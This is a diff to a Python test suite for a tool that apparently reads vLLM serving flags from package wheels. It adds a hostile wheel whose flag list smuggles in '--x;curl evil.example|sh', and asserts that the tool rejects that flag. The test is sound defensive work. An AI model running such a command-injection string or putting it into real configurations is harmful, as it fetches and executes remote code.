@@ -476,7 +476,16 @@ def hostile_index() -> Iterator[str]:
             "vllm/model_executor/layers/quantization/fp8.py": sums,
             "vllm/v1/metrics/loggers.py": sums}),
         "0.48.0": _wheel("0.48.0", ["torch==2.14.0"], ">=3.11,<3.15", {
-            "vllm/engine/arg_utils.py": b"#" * (5 << 20)})})
+            "vllm/engine/arg_utils.py": b"#" * (5 << 20)}),
+        # an option string no server registers, shaped to reach a shell
+        "0.49.0": _wheel("0.49.0", ["torch==2.14.0"], ">=3.11,<3.15", _vllm_source(
+            [*(release_flags_of("0.33.0")), "--x;curl evil.example|sh"]))})
+
+
+def release_flags_of(version: str) -> list[str]:
+    from dockergen.components.serving.vllm import release_flags
+
+    return sorted(release_flags(version) or [])
 
 
 def test_hostile_source_in_a_wheel_is_refused_by_bound_never_parsed_without_one(
@@ -490,6 +499,10 @@ def test_hostile_source_in_a_wheel_is_refused_by_bound_never_parsed_without_one(
                                                  "metric names not read"], unread
     assert all("does not parse" in n for n in unread), unread
     assert "(MemoryError" in unread[0] and "(RecursionError" in unread[1] + unread[2], unread
+    odd = _move(plan, "0.49.0")  # the list is not kept; the move is judged without it
+    assert odd["ok"] and "0.49.0" not in plan["derived_flags"]
+    assert any(n.startswith('serve_flags read but not kept: "--x;curl evil.example|sh" is not '
+                            "a command-line option") for n in odd["notes"]), odd["notes"]
     big = _move(plan, "0.48.0")
     assert big["ok"] and big["notes"][0] == (
         "serve flags and quantization floors not read: vllm-0.48.0-cp38-abi3-manylinux_2_28_"
